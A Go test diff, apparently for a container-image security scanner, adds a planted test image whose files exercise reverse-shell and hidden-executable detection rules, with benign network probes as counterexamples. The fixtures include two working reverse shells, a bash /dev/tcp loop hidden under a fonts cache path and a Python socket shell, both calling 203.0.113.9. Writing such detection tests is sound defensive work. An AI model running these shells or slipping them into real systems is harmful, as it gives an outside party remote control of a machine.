@@ -339,6 +339,18 @@ func techniqueImages(t testing.TB, base v1.Layer) []plantedImage {
 		hit{rule: "script-escapes-container", path: "/srv/tools/hop", layer: 1},
 		hit{rule: "executable-in-temp-or-hidden-dir", path: "/opt/.x/grab.sh", layer: 1})
 
+	// Reverse shells in a script and a unit's helper; a health check
+	// opening /dev/tcp, wait-for-it's probe, nc listening for a test and
+	// socat forwarding a port are not.
+	add("test/t-revshell", nil, nil, one(
+		ent{name: "usr/local/share/fonts/.cache/u", mode: 0o755, body: "#!/bin/bash\nwhile :; do bash -i >& /dev/tcp/203.0.113.9/4444 0>&1; sleep 60; done\n"},
+		ent{name: "opt/agent/helper.py", body: "import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"203.0.113.9\",443));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])\n"},
+		ent{name: "opt/agent/health.sh", mode: 0o755, body: "#!/bin/bash\nexec 3<>/dev/tcp/127.0.0.1/8080\necho -e 'GET /health HTTP/1.0\\r\\n' >&3\n" +
+			"(echo > /dev/tcp/$DB_HOST/$DB_PORT) >/dev/null 2>&1 && echo up\nnc -l -p 9000 -e /bin/cat\nsocat TCP-LISTEN:8080,fork TCP:backend:80\n"}),
+		hit{rule: "script-reverse-shell", path: "/usr/local/share/fonts/.cache/u", layer: 1},
+		hit{rule: "script-reverse-shell", path: "/opt/agent/helper.py", layer: 1},
+		hit{rule: "executable-in-temp-or-hidden-dir", path: "/usr/local/share/fonts/.cache/u", layer: 1})
+
 	// Labels runlabel runs on the host: privileged with the host's root,
 	// and one fetching code; an ordinary RUN label and other labels naming
 	// the same flags are not.
